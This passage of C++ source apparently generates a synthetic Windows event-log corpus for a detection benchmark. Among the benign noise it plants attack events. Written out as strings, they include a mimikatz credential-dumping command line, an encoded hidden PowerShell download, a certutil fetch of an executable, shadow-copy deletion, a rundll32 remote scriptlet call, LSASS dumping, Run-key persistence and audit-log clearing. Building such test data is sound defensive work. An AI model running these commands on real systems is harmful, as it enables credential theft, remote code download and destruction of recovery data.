          "52." + Number(160 + rng.Below(32)) + "." + Number(rng.Below(256)) + "." + Number(1 + rng.Below(254)), "443");
    } else {
      NetworkConnection(rng, event, actor, rng.Chance(25) ? "-" : rng.Pick(kDomains), PublicIp(rng),
                        rng.Chance(85) ? "443" : "80");
    }
  } else if (roll < 48) {
    const Actor actor = PickActor(rng, user);
    ImageLoad(rng, event, actor, rng.Pick(kLoadedImages), "Windows system library");
  } else if (roll < 51) {
    if (rng.Chance(50)) {
      ProcessAccess(rng, event, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                    "NT AUTHORITY\\SYSTEM", "C:\\Windows\\system32\\lsass.exe", "0x1000",
                    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                    "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{2D4A}\\mpengine.dll+3a1f2");
    } else {
      ProcessAccess(rng, event, "C:\\Windows\\System32\\svchost.exe", "NT AUTHORITY\\SYSTEM",
                    "C:\\Windows\\System32\\RuntimeBroker.exe", "0x1410",
                    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                    "c:\\windows\\system32\\rpcss.dll+1f0b1");
    }
  } else if (roll < 60) {
    const Actor actor = PickActor(rng, user);
    static constexpr std::array<const char*, 6> kTargets = {
        "C:\\Users\\%U\\AppData\\Local\\Temp\\~DF%H.TMP",
        "C:\\Users\\%U\\Downloads\\Indkaldelse %H.pdf",
        "C:\\Windows\\Prefetch\\CHROME.EXE-%H.pf",
        "C:\\Users\\%U\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%H",
        "C:\\Users\\%U\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\%H\\favicon[1].ico",
        "C:\\Windows\\SoftwareDistribution\\Download\\%H\\update.cab"};
    FileCreate(rng, event, actor, Replace(Replace(rng.Pick(kTargets), "%U", user), "%H", Hex(rng, 8)));
  } else if (roll < 70) {
    const Actor actor = PickActor(rng, user);
    if (rng.Chance(3)) {
      // OneDrive's updater re-registering itself: a Run key the rule filters out.
      Actor updater = actor;
      updater.image =
          "C:\\Users\\" + std::string(user) + "\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneDriveSetup.exe";
      RegistrySet(rng, event, updater,
                  "HKU\\S-1-5-21-3623811015-3361044348-30300820-1105\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\"
                  "Run\\OneDrive",
                  "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background");
    } else {
      static constexpr std::array<const char*, 5> kKeys = {
          "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-3623811015-3361044348-"
          "30300820-1105\\\\Device\\HarddiskVolume3\\Windows\\System32\\%H.exe",
          "HKU\\S-1-5-21-3623811015-3361044348-30300820-1105\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\"
          "Identities\\%H\\LastSwitchedTime",
          "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\%H",
          "HKU\\S-1-5-21-3623811015-3361044348-30300820-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
          "RecentDocs\\.pdf\\%H",
          "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{%H}\\DhcpIPAddress"};
      static constexpr std::array<const char*, 4> kDetails = {"DWORD (0x00000001)", "Binary Data",
                                                              "QWORD (0x01db3f1a-0x5c2e4d10)", "10.4.17.88"};
      RegistrySet(rng, event, actor, Replace(rng.Pick(kKeys), "%H", Hex(rng, 8)), rng.Pick(kDetails));
    }
  } else if (roll < 81) {
    const Actor actor = PickActor(rng, user);
    DnsQuery(rng, event, actor, rng.Pick(kDomains));
  } else if (roll < 92) {
    Logon(rng, event, user, rng.Chance(85));
  } else if (roll < 96) {
    const Program& program = PickProgram(rng);
    SecurityProcessCreation(rng, event, user, Replace(program.image, "%U", user), PickCommandLine(rng, program, user),
                            Replace(program.parent_image, "%U", user));
  } else {
    ScriptBlock(rng, event, rng.Pick(kScriptBlocks), rng.Chance(50) ? "C:\\ProgramData\\Kommune\\inventory.ps1" : "");
  }
}

// Each planted event is built so that its PlantedKind's rule fires.
void Planted(Rng& rng, WinEvent& event, std::string_view user, std::uint32_t kind) {
  const Program& cmd = kPrograms[12];
  const Program& powershell = kPrograms[13];
  Actor dropper{std::string(user),
                "C:\\Users\\" + std::string(user) + "\\AppData\\Local\\Temp\\upd" + Hex(rng, 4) + ".exe",
                std::string(kDomain) + "\\" + std::string(user), Guid(rng), 1000 + rng.Below(30000)};
  switch (kind) {
    case 0:
      ProcessCreation(rng, event, user, "C:\\Users\\Public\\Music\\m64.exe",
                      "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", cmd);
      break;
    case 1:
      ProcessCreation(rng, event, user, powershell.image,
                      "powershell.exe -NoP -NonI -W Hidden -enc "
                      "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBEAG8AdwBu",
                      cmd);
      break;
    case 2:
      ProcessCreation(rng, event, user, "C:\\Windows\\System32\\certutil.exe",
                      "certutil.exe -urlcache -split -f http://" + PublicIp(rng) + "/a.exe C:\\Users\\Public\\a.exe",
                      cmd);
      break;
    case 3:
      ProcessCreation(rng, event, user, "C:\\Windows\\System32\\vssadmin.exe",
                      "vssadmin.exe delete shadows /all /quiet", cmd);
      break;
    case 4:
      ProcessCreation(rng, event, user, "C:\\Windows\\System32\\rundll32.exe",
                      "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject("
                      "\"script:https://" +
                          PublicIp(rng) + "/r.sct\")",
                      cmd);
      break;
    case 5:
      SecurityProcessCreation(rng, event, user, "C:\\Windows\\System32\\whoami.exe", "whoami /all",
                              "C:\\Windows\\System32\\cmd.exe");
      break;
    case 6:
      ProcessAccess(rng, event, dropper.image, dropper.account, "C:\\Windows\\system32\\lsass.exe", "0x1438",
                    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                    "C:\\Windows\\SYSTEM32\\dbghelp.dll+1b7a2|UNKNOWN(00007FF6A1B2C3D4)");
      break;
    case 7:
      RegistrySet(rng, event, dropper,
                  "HKU\\S-1-5-21-3623811015-3361044348-30300820-1105\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\"
                  "Run\\WindowsUpdateHelper",
                  dropper.image + " /autorun");
      break;
    case 8:
      SetSecurity(event, 1102, "Log clear", "The audit log was cleared.");
      event.provider = "Microsoft-Windows-Eventlog";
      event.provider_guid = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}";
      event.user_data = true;
      event.data = {{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1105"},
                    {"SubjectUserName", std::string(user)},
                    {"SubjectDomainName", kDomain},
                    {"SubjectLogonId", "0x" + Hex(rng, 6)}};
      break;
    case 9:
      SetSecurity(event, 4720, "User Account Management", "A user account was created.");
      event.data = {{"TargetUserName", "support" + Hex(rng, 3)},
                    {"TargetDomainName", event.host},
                    {"TargetSid", "S-1-5-21-1004336348-1177238915-682003330-" + Number(1000 + rng.Below(100))},
                    {"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1105"},
                    {"SubjectUserName", std::string(user)},
                    {"SubjectDomainName", kDomain},
                    {"SubjectLogonId", "0x" + Hex(rng, 6)},
                    {"PrivilegeList", "-"},
                    {"SamAccountName", "support"},
                    {"DisplayName", "%%1793"},
                    {"UserPrincipalName", "-"},
                    {"UserAccountControl", "%%2080 %%2082 %%2084"}};
      break;
    case 10:
      ScriptBlock(rng, event,
                  "function Invoke-Creds {\n  $m = Get-Content C:\\Users\\Public\\k.txt\n  Invoke-Expression "
                  "\"$m 'sekurlsa::logonpasswords' exit\"\n}",
                  "");
      break;
    case 11:
      DnsQuery(rng, event, dropper, "userstorage.mega.co.nz");
      break;
    case 12:
      NetworkConnection(rng, event, dropper, Hex(rng, 8) + ".ngrok-free.app", PublicIp(rng), "443");
      break;
    case 13:
      FileCreate(rng, event, dropper, "C:\\Windows\\Temp\\lsass.dmp");
      break;
    default:
      ImageLoad(rng, event, dropper, "C:\\Windows\\System32\\vssapi.dll", "Microsoft® Volume Shadow Copy Requestor");
      break;
  }
}

// JSON text.
void AppendEscaped(std::string& out, std::string_view text) {
  out.push_back('"');
  out += JsonEscape(text);
  out.push_back('"');
}

void Key(std::string& out, std::string_view key) {
  if (out.back() != '{') out.push_back(',');
  AppendEscaped(out, key);
  out.push_back(':');
}

void Member(std::string& out, std::string_view key, std::string_view value) {
  Key(out, key);
  AppendEscaped(out, value);
}

void RawMember(std::string& out, std::string_view key, std::string_view raw) {
  Key(out, key);
  out += raw;
}

const std::string* FindData(const WinEvent& event, std::string_view name) {
  for (const auto& [key, value] : event.data) {
    if (name == key) return &value;
  }
  return nullptr;
}

void SplitAccount(const std::string& account, std::string& domain, std::string& name) {
  const std::size_t slash = account.find('\\');
  domain = slash == std::string::npos ? "" : account.substr(0, slash);
  name = slash == std::string::npos ? account : account.substr(slash + 1);
}

std::string RenderWinlogbeat(const WinEvent& event, Rng& rng) {
  const std::string fqdn = event.host + kDnsSuffix;
  const std::string iso = IsoTime(event.millis);
  const std::string code = Number(static_cast<std::uint64_t>(event.event_id));
  std::string out = "{";
  Member(out, "@timestamp", iso);
  RawMember(out, "agent",
            "{\"type\":\"winlogbeat\",\"version\":\"8.11.1\",\"name\":\"" + event.host + "\",\"id\":\"" +
                HashOf(event.host, 5, 8) + "-0b1e-4c2a-9f3d-" + HashOf(event.host, 6, 12) + "\"}");
  RawMember(out, "ecs", "{\"version\":\"8.0.0\"}");
  RawMember(out, "host",
            "{\"name\":\"" + fqdn + "\",\"hostname\":\"" + event.host +
                "\",\"os\":{\"family\":\"windows\",\"platform\":\"windows\",\"version\":\"10.0\",\"build\":\"19045."
                "3693\",\"kernel\":\"10.0.19041.3636 (WinBuild.160101.0800)\"}}");
  Key(out, "event");
  out += "{";
  Member(out, "code", code);
  Member(out, "kind", "event");
  Member(out, "provider", event.provider);
  Member(out, "action", event.task);
  Member(out, "created", IsoTime(event.millis + 800 + rng.Below(400)));
  if (event.channel == std::string_view(kSysmonChannel)) Member(out, "module", "sysmon");
  if (event.event_id == 4624 || event.event_id == 4625) {
    Member(out, "outcome", event.event_id == 4624 ? "success" : "failure");
  }
  out += "}";
  RawMember(out, "log", "{\"level\":\"information\"}");
  Member(out, "message", event.message);
  if (event.ecs_process) {
    Key(out, "process");
    out += "{";
    const std::string& image = *FindData(event, "Image");
    Member(out, "executable", image);
    Member(out, "name", image.substr(image.rfind('\\') + 1));
    Member(out, "command_line", *FindData(event, "CommandLine"));
    RawMember(out, "pid", *FindData(event, "ProcessId"));
    Member(out, "entity_id", *FindData(event, "ProcessGuid"));
    Member(out, "working_directory", *FindData(event, "CurrentDirectory"));
    Key(out, "parent");
    out += "{";
    Member(out, "executable", *FindData(event, "ParentImage"));
    Member(out, "command_line", *FindData(event, "ParentCommandLine"));
    RawMember(out, "pid", *FindData(event, "ParentProcessId"));
    out += "}";
    RawMember(out, "hash", "{\"sha256\":\"" + HashOf(image, 3, 64) + "\"}");
    out += "}";
    std::string domain;
    std::string name;
    SplitAccount(*FindData(event, "User"), domain, name);
    Key(out, "user");
    out += "{";
    Member(out, "name", name);
    Member(out, "domain", domain);
    out += "}";
  }
  Key(out, "winlog");
  out += "{";
  Member(out, "channel", event.channel);
  Member(out, "computer_name", fqdn);
  Member(out, "event_id", code);
  Member(out, "provider_name", event.provider);
  Member(out, "provider_guid", event.provider_guid);
  RawMember(out, "record_id", Number(event.record_id));
  Member(out, "api", "wineventlog");
  Member(out, "task", event.task);
  Member(out, "opcode", "Info");
  RawMember(
      out, "process",
      "{\"pid\":" + Number(600 + event.record_id % 7) + ",\"thread\":{\"id\":" + Number(4000 + rng.Below(4000)) + "}}");
  if (event.channel == std::string_view(kSysmonChannel)) {
    RawMember(out, "user",
              "{\"identifier\":\"S-1-5-18\",\"name\":\"SYSTEM\",\"domain\":\"NT AUTHORITY\",\"type\":\"User\"}");
  }
  Key(out, event.user_data ? "user_data" : "event_data");
  out += "{";
  for (const auto& [name, value] : event.data) Member(out, name, value);
  out += "}}}\n";
  return out;
}

std::string RenderFlat(const WinEvent& event, Rng& rng) {
  const std::string fqdn = event.host + kDnsSuffix;
  std::string out = "{";
  Member(out, "EventTime", UtcTime(event.millis).substr(0, 19));
  Member(out, "Hostname", fqdn);
  RawMember(out, "Keywords",
            event.channel == std::string_view("Security") ? "-9214364837600034816" : "-9223372036854775808");
  const std::string* event_type = FindData(event, "EventType");
  Member(out, "EventType", event_type != nullptr ? *event_type : std::string("INFO"));
  RawMember(out, "SeverityValue", "2");
  Member(out, "Severity", "INFO");
  RawMember(out, "EventID", Number(static_cast<std::uint64_t>(event.event_id)));
  Member(out, "SourceName", event.provider);
  Member(out, "ProviderGuid", event.provider_guid);
  RawMember(out, "Version", "2");
  Member(out, "Task", event.task);
  RawMember(out, "OpcodeValue", "0");
  RawMember(out, "RecordNumber", Number(event.record_id));
  RawMember(out, "ProcessID", Number(600 + event.record_id % 7));
  RawMember(out, "ThreadID", Number(4000 + rng.Below(4000)));
  Member(out, "Channel", event.channel);
  Member(out, "Domain", "NT AUTHORITY");
  Member(out, "AccountName", "SYSTEM");
  Member(out, "UserID", "S-1-5-18");
  Member(out, "AccountType", "User");
  Member(out, "Message", event.message);
  Member(out, "Category", event.task);
  Member(out, "Opcode", "Info");
  for (const auto& [name, value] : event.data) {
    if (std::string_view(name) != "EventType") Member(out, name, value);
  }
  Member(out, "EventReceivedTime", UtcTime(event.millis + 1000).substr(0, 19));
  Member(out, "SourceModuleName", "eventlog");
  Member(out, "SourceModuleType", "im_msvistalog");
  out += "}\n";
  return out;
}

constexpr std::array<const char*, 2> kFormatNames = {"winlogbeat-ecs", "flat-json"};
constexpr std::array<const char*, 2> kFileNames = {"1-winlogbeat.jsonl", "2-nxlog-flat.jsonl"};

}  // namespace

std::span<const PlantedKind> PlantedKinds() { return kPlantedKinds; }

Result<Corpus> WriteWindowsCorpus(const std::filesystem::path& dir, const CorpusOptions& options) {
  if (options.events == 0 && options.bytes == 0) {
    return Error::InvalidArgument("corpus: give a number of events or of bytes");
  }
  Corpus corpus;
  std::array<std::ofstream, 2> outs;
  std::array<std::string, 2> blocks;
  std::array<std::vector<PlantedEvent>, 2> planted;  // index = line within its file, for now
  for (std::size_t file_idx = 0; file_idx < outs.size(); ++file_idx) {
    CorpusFile file;
    file.path = (dir / kFileNames[file_idx]).string();
    file.format = kFormatNames[file_idx];
    corpus.files.push_back(file);
    outs[file_idx].open(file.path, std::ios::binary | std::ios::trunc);
    if (!outs[file_idx]) return Error::Io(file.path + ": cannot create");
  }
  Rng rng(options.seed);
  std::array<std::string, 40> hosts;
  for (std::size_t host_idx = 0; host_idx < hosts.size(); ++host_idx) {
    static constexpr std::array<const char*, 5> kMunicipalities = {"0751", "0101", "0461", "0851", "0147"};
    hosts[host_idx] =
        host_idx < 4    ? "DC0" + Number(host_idx + 1)
        : host_idx < 10 ? "SRV-" + std::string(kMunicipalities[host_idx % 5]) + "-" + Number(host_idx)
                        : "WS-" + std::string(kMunicipalities[host_idx % 5]) + "-" + Number(100 + host_idx * 37 % 900);
  }
  std::uint32_t planted_count = 0;
  std::uint64_t millis = 0;
  std::array<std::uint64_t, 40> record_ids{};
  for (std::uint64_t event_idx = 0;; ++event_idx) {
    if (options.events != 0 && event_idx >= options.events) break;
    if (options.bytes != 0 && corpus.bytes >= options.bytes) break;
    millis += 1 + rng.Below(9);
    WinEvent event;
    const std::size_t host_idx = rng.Below(hosts.size());
    event.host = hosts[host_idx];
    event.millis = millis;
    event.record_id = 1'000'000 + host_idx * 7919 + ++record_ids[host_idx];
    const std::string_view user = rng.Pick(kUsers);
    const bool plant = event_idx % kPlantEvery == kPlantEvery / 2;
    const std::uint32_t kind = planted_count % static_cast<std::uint32_t>(kPlantedKinds.size());
    if (plant) {
      Planted(rng, event, user, kind);
    } else {
      Benign(rng, event, user);
    }
    const std::size_t file_idx = rng.Chance(60) ? 0 : 1;
    if (plant) {
      planted[file_idx].push_back({corpus.files[file_idx].events, kind});
      ++planted_count;
    }
    std::string line = file_idx == 0 ? RenderWinlogbeat(event, rng) : RenderFlat(event, rng);
    corpus.bytes += line.size();
    corpus.files[file_idx].bytes += line.size();
    ++corpus.files[file_idx].events;
    ++corpus.events;
    blocks[file_idx] += line;
    if (blocks[file_idx].size() > (std::size_t{1} << 20)) {
      outs[file_idx] << blocks[file_idx];
      blocks[file_idx].clear();
    }
  }
  std::uint64_t first_index = 0;
  for (std::size_t file_idx = 0; file_idx < outs.size(); ++file_idx) {
    outs[file_idx] << blocks[file_idx];
    outs[file_idx].close();
    if (!outs[file_idx]) return Error::Io(corpus.files[file_idx].path + ": write failed");
    for (PlantedEvent event : planted[file_idx]) {
      event.index += first_index;
      corpus.planted.push_back(event);
    }
    first_index += corpus.files[file_idx].events;
  }
  return corpus;
}

}  // namespace dv::bench
